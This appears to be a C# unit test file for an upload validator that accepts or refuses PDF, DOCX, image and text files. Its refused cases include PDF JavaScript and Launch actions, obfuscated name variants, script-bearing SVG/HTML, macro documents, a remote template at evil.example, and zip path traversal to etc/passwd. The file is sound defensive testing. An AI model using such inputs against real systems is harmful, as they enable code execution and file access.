using ReturnCase.Domain.Documents;
using ReturnCase.Tests.Support;
using ReturnCase.Web.Documents;

namespace ReturnCase.Tests.Documents;

public sealed class FileContentTests
{
    private const string Html = "<!DOCTYPE html><html><script>alert(1)</script></html>";

    private const string Hexadecimal = "312030203c3c2f532f4a6176615363726970743e3e>";
    private const string Script = "<</S/JavaScript/JS(app.alert(1))>>";

    public static TheoryData<string, byte[], DocumentFormat> Taken() => new()
    {
        { "brief.pdf", Papers.Pdf("Hallo"), DocumentFormat.Pdf },
        { "BRIEF.PDF", Papers.Pdf("Hallo"), DocumentFormat.Pdf },
        { "ingepakt.pdf", Papers.PdfOfPackedObjects("<</Type/Page/Contents 9 0 R>>"), DocumentFormat.Pdf },
        { "los.pdf", Papers.PdfOfPackedObjects("1 0 <</Type/Page>>", "/Type/ObjStm/N 1/First 4", pack: false), DocumentFormat.Pdf },
        { "foto.png", Papers.Png(), DocumentFormat.Png },
        { "foto.jpg", Papers.Jpeg(), DocumentFormat.Jpeg },
        { "foto.jpeg", [.. Papers.Jpeg(), 1, 2, 3], DocumentFormat.Jpeg },
        { "verslag.txt", Papers.Text("Zij zei: \u201Cja\u201D.\r\n\tEn toen \u0627\u0644\u0633\u0644\u0627\u0645."), DocumentFormat.Text },
        { "verslag.txt", [0xEF, 0xBB, 0xBF, .. Papers.Text("met merkteken")], DocumentFormat.Text },
        { "brief.docx", Papers.Docx(), DocumentFormat.Docx },
        { "brief.docx", Papers.Docx(("word/_rels/settings.xml.rels", """<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="file:///C:\Sjablonen\brief.dotx" TargetMode="External"/></Relationships>""")), DocumentFormat.Docx },
    };

    public static TheoryData<string, byte[], FileFault> Refused() => new()
    {
        { "brief.pdf", Papers.Text(Html), FileFault.NotWhatItSays },
        { "brief.pdf", Papers.DocxBomb(30), FileFault.NotWhatItSays },
        { "brief.pdf", Papers.Zip(("../../etc/passwd", [1])), FileFault.NotWhatItSays },
        { "brief.pdf", Papers.Text("%PDF-1.7 en verder niets"), FileFault.Broken },
        { "brief.pdf", Papers.Text("%PDF-9.9\nstartxref\n0\n%%EOF"), FileFault.Broken },
        { "brief.pdf", Papers.Text("%PDF-1.4\n1 0 obj<</OpenAction<</S /JavaScript /JS (app.alert(1))>>>>endobj\nstartxref\n0\n%%EOF"), FileFault.CarriesProgram },
        { "verstopt.pdf", Papers.Text("%PDF-1.4\n1 0 obj<</OpenAction<</S /J#61vaScript /JS (app.alert(1))>>>>endobj\nstartxref\n0\n%%EOF"), FileFault.CarriesProgram },
        { "brief.pdf", Papers.Text("%PDF-1.4\n1 0 obj<</S/Launch/F(calc.exe)>>endobj\nstartxref\n0\n%%EOF"), FileFault.CarriesProgram },
        { "brief.pdf", Papers.Text("%PDF-1.4\n1 0 obj<</S/Launch%x\n/F(calc.exe)>>endobj\nstartxref\n0\n%%EOF"), FileFault.CarriesProgram },
        { "ingepakt.pdf", Papers.PdfOfPackedObjects(Script), FileFault.CarriesProgram },
        { "vervalst.pdf", Papers.PdfOfPackedObjects("<</S/J#61vaScript/JS(app.alert(1))>>"), FileFault.CarriesProgram },
        { "aan het eind.pdf", Papers.PdfOfPackedObjects("<</Names 2 0 R/EmbeddedFiles"), FileFault.CarriesProgram },
        { "ver weg.pdf", Papers.PdfOfPackedObjects(new string(' ', (64 * 1024) - 10) + Script), FileFault.CarriesProgram },
        { "zonder soort.pdf", Papers.PdfOfPackedObjects(Script, "/N 1/First 4/Filter/FlateDecode"), FileFault.CarriesProgram },
        { "in een tekst.pdf", Papers.PdfOfPackedObjects(Script, "/X(obj)/Type/ObjStm/N 1/First 4/Filter/FlateDecode"), FileFault.CarriesProgram },
        { "na een half deel.pdf", Papers.PdfOfPackedObjects(Script, before: "3 0 obj<</Length 9>>stream\nq 1 0 "), FileFault.CarriesProgram },
        { "anders ingepakt.pdf", Papers.PdfOfPackedObjects(Hexadecimal, "/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", pack: false), FileFault.Unreadable },
        { "anders ingepakt.pdf", Papers.PdfOfPackedObjects(Hexadecimal, "/Type/Obj#53tm/N 1/First 4/Filter/ASCIIHexDecode", pack: false), FileFault.Unreadable },
        { "bom.pdf", Papers.PdfBombOfObjects(200), FileFault.Bomb },
        { "wachtwoord.pdf", Papers.Text("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt 5 0 R>>\nstartxref\n0\n%%EOF"), FileFault.Locked },
        { "wachtwoord.pdf", Papers.Text("%PDF-1.7\n1 0 obj<</Type/XRef/Root 1 0 R/En#63rypt<</Filter/Standard>>>>endobj\nstartxref\n0\n%%EOF"), FileFault.Locked },
        { "brief.pdf", [], FileFault.Empty },
        { "tekening.svg", Papers.Text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), FileFault.RunsInBrowser },
        { "tekening.png", Papers.Text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), FileFault.NotWhatItSays },
        { "tekening.txt", Papers.Text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), FileFault.NotWhatItSays },
        { "pagina.html", Papers.Text(Html), FileFault.RunsInBrowser },
        { "pagina.txt", Papers.Text($"\r\n {Html}"), FileFault.NotWhatItSays },
        { "brief.docm", Papers.Docx(), FileFault.CarriesProgram },
        { "brief.docx", Papers.Docx(("word/vbaProject.bin", "x")), FileFault.CarriesProgram },
        { "brief.docx", Papers.Docx(("word/embeddings/oleObject1.bin", "x")), FileFault.CarriesProgram },
        { "brief.docx", Papers.Zip(("[Content_Types].xml", Papers.Text("application/vnd.ms-word.document.macroEnabled.main+xml")), ("word/document.xml", Papers.Text("x"))), FileFault.CarriesProgram },
        { "brief.docx", Papers.Docx(("word/_rels/settings.xml.rels", """<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>""")), FileFault.CarriesProgram },
        { "brief.docx", Papers.DocxBomb(30), FileFault.Bomb },
        { "brief.docx", Papers.Zip([("[Content_Types].xml", Papers.Text("x")), ("word/document.xml", Papers.Text("x")), .. Enumerable.Range(0, 2_001).Select(i => ($"word/{i}", new byte[1]))]), FileFault.Bomb },
        { "brief.docx", Papers.Docx(("../../outside.xml", "x")), FileFault.NotWhatItSays },
        { "brief.docx", Papers.Zip(("xl/workbook.xml", Papers.Text("x"))), FileFault.NotWhatItSays },
        { "brief.docx", Papers.Docx()[..80], FileFault.Broken },
        { "brief.docx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0, 0, 0, 0, 0, 0, 0, 0], FileFault.Locked },
        { "brief.docx", Papers.Pdf("Hallo"), FileFault.NotWhatItSays },
        { "foto.png", Papers.Png(60_000, 60_000), FileFault.TooManyPoints },
        { "foto.png", Papers.Png()[..^3], FileFault.Broken },
        { "foto.png", [.. Papers.Png(), .. Papers.Text(Html)], FileFault.Broken },
        { "foto.jpg", Papers.Png(), FileFault.NotWhatItSays },
        { "foto.jpg", Papers.Jpeg(65_000, 65_000), FileFault.TooManyPoints },
        { "foto.jpg", Papers.Jpeg()[..24], FileFault.Broken },
        { "programma.exe", [(byte)'M', (byte)'Z', 1], FileFault.CarriesProgram },
        { "programma.txt", [(byte)'M', (byte)'Z', 1], FileFault.NotWhatItSays },
        { "verslag.txt", [(byte)'a', 0, (byte)'b'], FileFault.NotUtf8 },
        { "verslag.txt", [0xFF, 0xFE, (byte)'a', 0], FileFault.NotUtf8 },
        { "verslag.txt", [(byte)'c', (byte)'a', (byte)'f', 0xE9, (byte)'s'], FileFault.NotUtf8 },
        { "muziek.mp3", [1, 2, 3], FileFault.EndingNotTaken },
        { "zonder", Papers.Pdf("Hallo"), FileFault.EndingNotTaken },
    };

    [Theory]
    [MemberData(nameof(Taken))]
    public void What_is_what_it_says_is_taken(string name, byte[] content, DocumentFormat format)
    {
        using var stream = new MemoryStream(content);
        Assert.Equal(FileVerdict.Takes(format), FileContent.Judge(name, stream));
    }

    [Theory]
    [MemberData(nameof(Refused))]
    public void What_is_not_or_could_act_is_refused_with_its_own_fault(string name, byte[] content, FileFault fault)
    {
        using var stream = new MemoryStream(content);
        Assert.Equal(FileVerdict.Refuses(fault), FileContent.Judge(name, stream));
    }

    [Fact]
    public void A_word_that_is_cut_by_the_window_is_found()
    {
        var before = Papers.Text("%PDF-1.4\n" + new string(' ', (256 * 1024) - 20));
        using var stream = new MemoryStream([.. before, .. Papers.Text("/S /JavaScript (x)\nstartxref\n0\n%%EOF")]);
        Assert.Equal(FileFault.CarriesProgram, FileContent.Judge("a.pdf", stream).Fault);
    }

    [Fact]
    public void Whatever_bytes_come_there_is_an_answer()
    {
        var random = new Random(2026);
        byte[][] seeds = [Papers.Pdf("a"), Papers.Png(), Papers.Jpeg(), Papers.Docx(), Papers.Text("abc")];
        string[] names = ["a.pdf", "a.png", "a.jpg", "a.docx", "a.txt"];
        for (var i = 0; i < 2_000; i++)
        {
            var bytes = seeds[i % seeds.Length].ToArray();
            for (var spoil = random.Next(1, 6); spoil > 0; spoil--)
                bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            using var stream = new MemoryStream(random.Next(3) == 0 ? bytes[..random.Next(bytes.Length)] : bytes);
            var verdict = FileContent.Judge(names[i % names.Length], stream);
            Assert.True(verdict.Format is null != verdict.Fault is null);
        }
    }
}
